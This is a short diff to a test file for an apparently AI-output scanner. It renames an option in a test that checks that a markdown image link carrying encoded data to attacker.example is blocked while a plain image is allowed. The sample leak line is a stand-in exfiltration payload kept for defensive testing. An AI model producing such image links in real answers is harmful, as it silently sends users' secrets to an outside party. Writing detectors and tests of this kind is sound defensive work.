@@ -157,6 +157,6 @@ it("flags an instruction in pasted text, even in quotes", () => {
 
 it("blocks exfiltration by image in an answer", () => {
   const leak = `![x](https://attacker.example/i.png?q=${"c2VjcmV0".repeat(5)})`;
-  expect(scan(leak, { direction: "output" }).verdict).toBe("block");
-  expect(scan("![x](https://example.com/i.png?v=3)", { direction: "output" }).verdict).toBe("allow");
+  expect(scan(leak, { trust: "answer" }).verdict).toBe("block");
+  expect(scan("![x](https://example.com/i.png?v=3)", { trust: "answer" }).verdict).toBe("allow");
 });
